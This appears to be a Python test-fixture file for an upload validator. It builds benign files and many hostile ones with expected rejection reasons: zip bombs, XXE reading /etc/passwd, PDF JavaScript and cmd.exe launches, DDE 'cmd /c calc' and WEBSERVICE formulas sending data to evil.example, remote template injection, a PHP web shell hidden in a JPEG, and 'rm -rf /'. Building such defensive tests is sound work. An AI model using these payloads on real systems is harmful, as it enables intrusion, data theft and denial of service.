"""Files that strangers send: sound ones, and those that hide something."""

from __future__ import annotations

import io
import zipfile
import zlib
from base64 import a85encode
from collections.abc import Callable
from zlib import compress

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()


def pdf(*objects: bytes) -> bytes:
    """A PDF with these objects, the first of them its root, and the table of where they stand."""
    out, places = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, one in enumerate(objects, 1):
        places += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    size = len(objects) + 1
    end = b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, len(out))
    return out + b"xref\n0 %d\n%b" % (size, places) + end


PDF = pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")


def picture(kind: str = "PNG", size: tuple[int, int] = (4, 4)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "green").save(out, kind)
    return out.getvalue()


def bilevel(width: int, height: int) -> bytes:
    """A plan as a scanner writes it: black and white, packed."""
    out = io.BytesIO()
    Image.new("1", (width, height), 1).save(out, "TIFF", compression="group4")
    return out.getvalue()


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def huge_picture(side: int = 30_000) -> bytes:
    """A PNG that names 900 million points in some hundred bytes."""
    head = side.to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    body = zlib.compress(b"\0" * 100)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def workbook(**more: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | more)


def letter(**more: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | more)


def packed_objects(inside: bytes) -> bytes:
    """The object that holds others, packed."""
    packed = zlib.compress(b"7 0 " + inside)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)


def lying(size: int, said: int) -> bytes:
    """A zip whose entry of `size` bytes is said to have `said`, with the sum of those."""
    out = bytearray(zipped({"a.txt": b"0" * size}))
    wrong = zlib.crc32(b"0" * said).to_bytes(4, "little"), said.to_bytes(4, "little")
    for mark, crc, length in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
        at = out.index(mark)
        out[at + crc : at + crc + 4], out[at + length : at + length + 4] = wrong
    return bytes(out)


def declared(name: str, size: int, entries: dict[str, bytes]) -> bytes:
    """A zip one entry of which is said to unpack to `size` bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for one, data in ({name: b"<x/>"} | entries).items():
            archive.writestr(one, data)
        archive.getinfo(name).file_size = size
    return out.getvalue()


def overlapping(count: int) -> bytes:
    """A zip whose directory names one and the same packed bytes many times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"0" * 900_000)
        archive.filelist.extend([archive.filelist[0]] * (count - 1))
    return out.getvalue()


def linked() -> bytes:
    """A zip with a link to a file of the server."""
    out, link = io.BytesIO(), zipfile.ZipInfo("plan.pdf")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked() -> bytes:
    out = bytearray(zipped({"plan.txt": b"secret"}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        out[out.index(mark) + at] |= 1
    return bytes(out)


def nested(depth: int) -> bytes:
    data = b"0" * 1_000_000
    for _ in range(depth):
        data = zipped({"inner.zip": data})
    return data


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%b">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 12))
    + b"]>"
)
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SCRIPT = b"<</Type/Action/S/JavaScript/JS(app.alert(1))>>"


def filtered(inside: bytes, names: bytes, pack: Callable[[bytes], bytes]) -> bytes:
    """A PDF whose object stream is packed by these filters."""
    packed = pack(b"7 0 " + inside)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter%b/Length %d>>stream\n%b\nendstream" % (names, len(packed), packed)
    return pdf(b"<</Type/Catalog>>", stream)


def link(kind: str, mode: str = "External", target: str = "https://evil.example/x") -> bytes:
    """Relationships of a part of an Office file: one."""
    words = f'Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"'
    return f"<Relationships><Relationship {words}/></Relationships>".encode()


def late(xml: str, encoding: str = "utf-8") -> bytes:
    """XML whose declarations stand behind a long comment."""
    head = f'<?xml version="1.0" encoding="{encoding}"?><!--{"y" * 9_000}-->'
    return (head + '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xml).encode(encoding)


FIELDS = b"<w:document><w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E&#65;UTO cmd</w:instrText></w:document>"
RELS = "word/_rels/settings.xml.rels"


def cells(*formulas: str) -> bytes:
    """A workbook with these formulas, as XML has them."""
    rows = "".join(f"<row><c><f>{one}</f></c></row>" for one in formulas)
    return workbook(**{"xl/worksheets/sheet1.xml": f"<worksheet><sheetData>{rows}</sheetData></worksheet>".encode()})


def opendocument(formula: str) -> bytes:
    cell = f'<t:table-cell xmlns:t="urn:t" t:formula="{formula}"/>'
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": cell.encode()})


def kml(inside: str) -> bytes:
    return (
        f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}</Document></kml>'.encode()
    )


NAMES = b"<workbook><definedNames><definedName>_xlfn.WEBSERVICE(&quot;http://x&quot;)</definedName></definedNames></workbook>"
EXE = b"MZ\x90\0" + b"\0" * 200 + b"This program cannot be run in DOS mode"
NETWORK = kml("<NetworkLink><Link><href>http://evil.example/x.kml</href></Link></NetworkLink>")
PAGE = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
ANSI = "Công ty Société Générale – 5 ha".encode("cp1252", "replace")
SHAPE = b"\0\0\x27\x0a" + b"\0" * 96
SHAPES = {
    "lot.shp": SHAPE,
    "lot.shx": SHAPE,
    "lot.dbf": b"\x03" + b"\0" * 60,
    "lot.prj": b"PROJCS[]",
    "lot.cpg": b"UTF-8",
}
SHAPES |= {"lot.sbn": SHAPE, "lot.sbx": SHAPE, "lot.qix": b"SQT\x01", "lot.shp.xml": b"<metadata/>"}
SHAPES |= {"lot.qmd": b"<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>\n<qgis/>"}
MAC = {"Du an/plan.pdf": PDF, "__MACOSX/Du an/._plan.pdf": b"\0\5\x16\7\0\2\0\0Mac OS X" + b"\0" * 99}
MAC |= {"Du an/.DS_Store": b"\0\0\0\x01Bud1" + b"\0" * 99}
PIN = "<Icon><href>http://maps.google.com/mapfiles/kml/pushpin/ylw-pushpin.png</href></Icon>"

# name, content, why it is refused
HOSTILE: list[tuple[str, bytes, str]] = [
    ("empty.pdf", b"", "empty"),
    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "unknown_kind"),
    ("page.html", b"<!doctype html><script>alert(1)</script>", "unknown_kind"),
    ("program.exe", b"MZ\x90\x00\x03", "unknown_kind"),
    ("run.sh", b"#!/bin/sh\nrm -rf /", "unknown_kind"),
    ("report.pdf", b"MZ\x90\x00", "unknown_kind"),
    ("photo.jpg", PDF, "disguised"),
    ("polyglot.png", picture() + zipped({"a.class": b"\xca\xfe\xba\xbe"}), "disguised"),
    ("polyglot.pdf", PDF + zipped({"x.js": b"alert(1)"}), "disguised"),
    ("gif.gif", b"GIF89a/*<script>alert(1)</script>*/=0", "disguised"),
    ("bomb.png", huge_picture(), "image_bomb"),
    ("broken.png", picture()[:40], "image_broken"),
    ("macro.xlsx", workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    ("bomb.zip", zipped({"a.txt": b"0" * 60_000_000}), "zip_bomb"),
    ("programs.zip", zipped({"setup.exe": b"MZ"}), "zip_member"),
    ("climb.zip", zipped({"../../etc/passwd.txt": b"x"}), "zip_path"),
    # two files in one
    ("photo.jpg", picture("JPEG") + b"<html><body onload=alert(1)>", "disguised"),
    ("photo.jpeg", picture("JPEG")[:20] + b"<?php system($_GET[0]); ?>" + picture("JPEG")[20:], "disguised"),
    ("photo.gif", picture("GIF") + b"/*<script>alert(1)</script>*/", "disguised"),
    ("both.gif", picture("GIF")[:-1] + PDF, "disguised"),
    ("rar.png", picture() + b"Rar!\x1a\x07\x01\x00", "disguised"),
    ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown_kind"),
    # names that say otherwise
    ("plan.exe.pdf", PDF, "disguised"),
    ("plan.pdf.exe", PDF, "disguised"),
    ("plan.js.png", picture(), "disguised"),
    ("plan\u202efdp.exe", PDF, "disguised"),
    # archives
    ("lying.zip", lying(3_000_000, 10), "zip_bomb"),
    ("declared.zip", declared("a.txt", 10 * 2**30, {}), "zip_bomb"),
    (
        "sheet.xlsx",
        declared("xl/worksheets/sheet1.xml", 10 * 2**30, {"[Content_Types].xml": b"<Types/>"}),
        "zip_bomb",
    ),
    ("overlapping.zip", overlapping(100), "zip_bomb"),
    ("nested.zip", nested(3), "zip_in_zip"),
    ("map.zip", zipped({"a.kmz": nested(2)}), "zip_in_zip"),
    ("link.zip", linked(), "zip_path"),
    ("locked.zip", locked(), "locked"),
    ("hidden.zip", zipped({"needs.xlsx": workbook(**{"xl/vbaProject.bin": b"x"})}), "zip_member"),
    # what runs in an office
    ("macro.xlsm", workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
    ("macro.docm", letter(**{"word/vbaProject.bin": b"x"}), "macros"),
    ("macro.docx", letter(**{"word/vbaProject.bin": b"x"}), "macros"),
    ("excel4.xlsx", workbook(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    ("typed.xlsx", zipped({"[Content_Types].xml": MACRO_TYPE, "xl/workbook.xml": b"<workbook/>"}), "macros"),
    ("template.docx", letter(**{"word/_rels/settings.xml.rels": TEMPLATE}), "macros"),
    ("object.docx", letter(**{"word/embeddings/oleObject1.bin": OLE}), "macros"),
    ("old.docx", OLE, "old_office"),
    ("old.xls", OLE, "old_office"),
    ("laughs.xlsx", workbook(**{"xl/sharedStrings.xml": LAUGHS + b"<sst><si><t>&k;</t></si></sst>"}), "xml_unsafe"),
    ("laughs.docx", letter(**{"word/styles.xml": LAUGHS + b"<x>&k;</x>"}), "xml_unsafe"),
    ("laughs.kml", LAUGHS + b"<kml><name>&k;</name></kml>", "xml_unsafe"),
    # what a PDF does
    ("script.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", SCRIPT), "pdf_active"),
    ("spelled.pdf", pdf(b"<</S/#4a#61vaScript/J#53(app.alert(1))>>"), "pdf_active"),
    ("packed.pdf", pdf(b"<</Type/Catalog>>", packed_objects(SCRIPT)), "pdf_active"),
    ("in_stream.pdf", pdf(b"<</Length 9>>stream\n3 0 obj" + SCRIPT + b"endobj\nendstream"), "pdf_active"),
    ("launch.pdf", pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>"), "pdf_active"),
    ("carrier.pdf", pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"), "pdf_active"),
    ("locked.pdf", pdf(b"<</Type/Catalog>>") + b"trailer<</Encrypt 9 0 R>>", "locked"),
    ("twice.pdf", filtered(SCRIPT, b"[/FlateDecode/FlateDecode]", lambda one: compress(compress(one))), "pdf_active"),
    ("hex.pdf", filtered(SCRIPT, b"/ASCIIHexDecode", lambda one: one.hex().encode() + b">"), "pdf_active"),
    ("a85.pdf", filtered(SCRIPT, b"/ASCII85Decode", lambda one: a85encode(one) + b"~>"), "pdf_active"),
    (
        "runs.pdf",
        filtered(SCRIPT, b"/RunLengthDecode", lambda one: bytes([len(one) - 1]) + one + b"\x80"),
        "pdf_active",
    ),
    ("unknown.pdf", filtered(SCRIPT, b"/Br", lambda one: one[::-1]), "broken"),
    ("broken.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", "broken"),
    ("opens.pdf", pdf(b"<</Type/Catalog/OpenAction<</S/URI/URI(https://evil.example)>>>>"), "pdf_active"),
    ("sends.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/SubmitForm/F(https://x)>>"), "pdf_active"),
    ("page.pdf", PDF + b"<html><script>alert(1)</script>", "disguised"),
    ("page2.pdf", PDF + b"\n<html><script>alert(1)</script>\n%%EOF", "disguised"),
    # what an Office file fetches or holds, however it is written
    ("spelled.docx", letter(**{RELS: link("attached&#84;emplate", "Extern&#97;l")}), "macros"),
    ("image.docx", letter(**{"word/_rels/document.xml.rels": link("image")}), "macros"),
    ("chunk.docx", letter(**{"word/_rels/document.xml.rels": link("aFChunk", "Internal", "a.html")}), "macros"),
    ("fields.docx", letter(**{"word/document.xml": FIELDS}), "macros"),
    (
        "dde.xlsx",
        workbook(**{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}),
        "macros",
    ),
    ("far.xlsx", workbook(**{"xl/externalLinks/_rels/a.xml.rels": link("externalLinkPath")}), "macros"),
    ("renamed.docx", letter(**{"word/stuff.dat": OLE}), "macros"),
    ("program.docx", letter(**{"word/media/a.png": b"MZ" + b"x" * 99}), "macros"),
    ("late.xlsx", workbook(**{"xl/worksheets/sheet1.xml": late("<worksheet>&x;</worksheet>")}), "xml_unsafe"),
    ("late16.xlsx", workbook(**{"xl/workbook.xml": late("<workbook>&x;</workbook>", "utf-16")}), "xml_unsafe"),
    # formulas that fetch or run
    ("webservice.xlsx", cells('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'), "formula_active"),
    ("image.xlsx", cells('_xlfn.IMAGE("http://evil.example/a.png")'), "formula_active"),
    ("filter.xlsx", cells("FILTER&#88;ML(A1,A2)"), "formula_active"),
    ("rtd.xlsx", cells('RTD("x",,"y")'), "formula_active"),
    ("cmd.xlsx", cells("cmd|'/c calc'!A0"), "formula_active"),
    ("quoted.xlsx", cells("""'it"s'!A1&amp;WEBSERVICE(A1)&amp;'b"c'!A1"""), "formula_active"),
    ("split.xlsx", cells("WEB<!-- -->SERVICE(A1)"), "formula_active"),
    ("named.xlsx", workbook(**{"xl/workbook.xml": NAMES}), "formula_active"),
    ("service.ods", opendocument("of:=WEBSERVICE(&quot;http://evil.example&quot;)"), "formula_active"),
    ("prefixed.ods", opendocument("of:=COM.MICROSOFT.WEBSERVICE([.A1])"), "formula_active"),
    ("dde.ods", opendocument("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"), "formula_active"),
    ("far.ods", opendocument("of:=['http://evil.example/a.ods'#$S.A1]"), "formula_active"),
    # maps that fetch or run, and what is no map
    ("network.kml", NETWORK, "kml_active"),
    ("network.kmz", zipped({"doc.kml": NETWORK}), "zip_member"),
    ("balloon.kml", kml("<description><![CDATA[<script>x()</script>]]></description>"), "kml_active"),
    ("frame.kml", kml('<description>&lt;iframe src="http://x"&gt;</description>'), "kml_active"),
    ("click.kml", kml("<description><![CDATA[<img src=x onerror=alert(1)>]]></description>"), "kml_active"),
    (
        "share.kml",
        kml(r"<GroundOverlay><Icon><href>\\evil.example\s\x.png</href></Icon></GroundOverlay>"),
        "kml_active",
    ),
    ("remote.kml", kml("<Icon><href>https://evil.example/x.png</href></Icon>"), "kml_active"),
    ("svg.kml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><kml/></svg>", "unknown_kind"),
    ("html.kml", b"<html><script>alert(1)</script><!-- <kml > --></html>", "unknown_kind"),
    # behind the end of a picture
    ("behind.png", picture() + EXE, "disguised"),
    ("behind.jpg", picture("JPEG") + b"MZ\x90\0" + b"x" * 99, "disguised"),
    ("behind.gif", picture("GIF") + b"MZ\x90\0" + b"x" * 99, "disguised"),
    ("behind.webp", picture("WEBP") + b"MZ\x90\0" + b"x" * 99, "disguised"),
    ("inside.tif", picture("TIFF") + EXE, "disguised"),
    # in an archive under another name
    ("program.zip", zipped({"plan.txt": EXE}), "zip_member"),
    ("table.zip", zipped({"lot.dbf": EXE}), "zip_member"),
    ("page.zip", zipped({"map.xml": PAGE}), "zip_member"),
    ("page2.zip", zipped({"map.geojson": PAGE}), "zip_member"),
    ("beside.zip", zipped({"__MACOSX/._plan.pdf": EXE}), "zip_member"),
    ("book.zip", zipped({"a.xlsx": cells("RTD(A1)")}), "zip_member"),
    ("dde.csv", b"Item,Area\nA,=cmd|'/C calc'!A0\n", "formula_active"),
    ("plus.csv", b"a;\"+cmd|' /C calc'!A0\";1", "formula_active"),
    ("fetch.csv", b"a,b\n1,=WEBSERVICE(A1)\n", "formula_active"),
    ("rtf.txt", rb"{\rtf1{\object\objocx\objupdate{\*\objdata d0cf11e0}}}", "rtf"),
    ("rtf.csv", rb"a,b\n{\object\objdata 01050000}", "rtf"),
    ("server.docx", letter(**{RELS: link("attachedTemplate", target=r"file:////evil.example/s/t.dotx")}), "macros"),
    ("share.docx", letter(**{RELS: link("attachedTemplate", target=r"\\evil.example\s\t.dotx")}), "macros"),
    ("many.zip", zipped({f"{n}.txt": b"0" * 900_000 for n in range(60)}), "zip_bomb"),
]
SOUND: list[tuple[str, bytes, str]] = [
    ("plan.pdf", PDF, "pdf"),
    ("site.png", picture(), "png"),
    ("site.jpeg", picture("JPEG"), "jpg"),
    ("needs.xlsx", workbook(), "xlsx"),
    ("notes.txt", "Cần 2 ha".encode(), "txt"),
    ("pack.zip", zipped({"plan.pdf": PDF, "maps/a.geojson": b"{}", "needs.xlsx": workbook()}), "zip"),
    (
        "letter.docx",
        letter(**{"word/_rels/document.xml.rels": TEMPLATE.replace(b"attachedTemplate", b"hyperlink")}),
        "docx",
    ),
    ("rev.2.final.pdf", pdf(b"<</Type/Catalog/OpenAction<</S/GoTo/D[0]>>>>", packed_objects(b"<<>>")), "pdf"),
    ("www.company.com.pdf", PDF, "pdf"),
    (
        "linked.xlsx",
        workbook(**{"xl/externalLinks/_rels/a.xml.rels": link("externalLinkPath", target="Costs.xlsx")}),
        "xlsx",
    ),
    ("chart.docx", letter(**{"word/embeddings/Sheet1.xlsx": workbook()}), "docx"),
    ("place.kml", b'<?xml version="1.0"?><kml><Placemark/></kml>', "kml"),
    ("finder.zip", zipped(MAC), "zip"),
    ("lots.zip", zipped(SHAPES), "zip"),
    (
        "letterhead.docx",
        letter(**{RELS: link("attachedTemplate", target=r"file:///C:\Users\lan\Letterhead.dotx")}),
        "docx",
    ),
    (
        "sums.xlsx",
        cells("SUM(A1:A9)", """'Lô 5'!A1&amp;" | "&amp;'Lô 6'!A1""", 'HYPERLINK("http://x.example","x")'),
        "xlsx",
    ),
    ("sums.ods", opendocument("of:=SUM([.A1:.A3])"), "ods"),
    ("A0.tif", bilevel(9_933, 14_043), "tif"),
    ("photo.webp", picture("WEBP"), "webp"),
    ("IMG_0001.HEIC", picture("HEIF", (64, 64)), "heic"),
    ("moving.jpg", picture("JPEG") + b"\0\0\0\x10ftypmp42\0\0\0\0\0\0\0\x0cmdat\x01\x02\x03\x04", "jpg"),
    ("deep.jpg", picture("JPEG") + picture("JPEG"), "jpg"),
    ("unicode.csv", "tên,diện tích\nA,5\n".encode("utf-16"), "txt"),
    ("vietnamese.csv", "tên,diện tích\nCông ty,5\n".encode("cp1258", "replace"), "txt"),
    ("ansi.txt", ANSI, "txt"),
    ("newline.pdf", b"\r\n" + PDF, "pdf"),
    ("pins.kml", kml(PIN + '<description><![CDATA[<a href="https://x.example">x</a>]]></description>'), "kml"),
    ("plots.geojson", b'{"type":"FeatureCollection","features":[]}', "txt"),
]
